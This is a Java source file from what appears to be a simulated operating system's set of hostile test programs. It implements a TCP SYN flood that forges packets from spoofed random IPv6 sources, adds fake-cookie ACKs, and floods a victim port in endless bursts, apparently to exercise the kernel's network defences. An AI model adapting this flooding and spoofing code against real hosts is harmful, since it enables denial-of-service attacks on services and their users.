package packos.hostile.flood;

import java.util.SplittableRandom;
import packos.kernel.Address;
import packos.kernel.KernelException;
import packos.kernel.Packet;
import packos.lib.Process;
import packos.lib.Program;
import packos.lib.wire.Ipv6Header;
import packos.lib.wire.TcpHeader;

/**
 * A SYN flood from the machine's gateway (it must hold capability {@code forward}, so it may send
 * from any address and is sent what goes off the KAN): SYNs from random sources and ports under
 * 2001:db8::/32, which never answer, and every fourth packet an ACK with a made-up cookie, at
 * VICTIM, PORT (arguments 0 and 1, fd00:7e8e::3 and 80), in BURSTS bursts (argument 2, 25) of 16
 * packets every 10 ms of machine time, forever: the victim runs after each burst, and a timer
 * paces the rest so that machine time goes on (a process that never waits stops virtual time). What comes
 * back to the forged addresses is swallowed and counted; every 1000 SYNs it prints a line
 * "flood: S SYNs, A forged ACKs sent; K SYN-ACKs, R RSTs came back".
 */
public final class SynFlooder implements Program {
    private int synAcks, resets;

    @Override
    public void main(Process self) {
        var sys = self.sys();
        var net = self.net();
        var victim = Address.parse(self.arg(0, "fd00:7e8e::3"));
        int port = Integer.parseInt(self.arg(1, "80"));
        int bursts = Integer.parseInt(self.arg(2, "25"));
        net.setForwarder(p -> {
            if (p.length() >= 60 && p.u8(6) == Ipv6Header.TCP) {
                int flags = p.u8(40 + 13);
                if ((flags & TcpHeader.RST) != 0) resets++;
                else if ((flags & TcpHeader.SYN) != 0 && (flags & TcpHeader.ACK) != 0) synAcks++;
            }
            sys.free(p);
        });
        var random = new SplittableRandom(sys.random());
        long syns = 0, acks = 0;
        var tick = net.timer(10_000, true);
        for (long turn = 0; ; turn++) {
            for (int k = 0; k < 16 * bursts; k++) {
                boolean ack = k % 4 == 3;
                var source = new Address(0x20010db8_00000000L | random.nextLong(1L << 32), random.nextLong());
                Packet p = sys.allocate();
                int length = ack ? 20 : 24;
                Ipv6Header.emit(p, 0, 0, length, Ipv6Header.TCP, 64, source, victim);
                var h = TcpHeader.emit(p, 40, length, random.nextInt(1024, 65536), port, random.nextLong(1L << 32),
                        ack ? random.nextLong(1L << 32) : 0, length, ack ? TcpHeader.ACK : TcpHeader.SYN, 65535);
                if (!ack) {
                    p.putU8(60, 2); // MSS 1440, as a Linux client on Ethernet asks
                    p.putU8(61, 4);
                    p.putU16(62, 1440);
                }
                h.fillChecksum(source, victim);
                try {
                    if (net.send(p, false)) {
                        if (ack) acks++;
                        else if (++syns % 1000 == 0) {
                            self.print("flood: " + syns + " SYNs, " + acks + " forged ACKs sent; " + synAcks + " SYN-ACKs, " + resets + " RSTs came back");
                        }
                    }
                } catch (KernelException e) {
                    // The victim restarting: keep flooding.
                }
                if (k % 16 == 15) {
                    net.drain();
                    self.yield();
                }
            }
            tick.await();
        }
    }
}
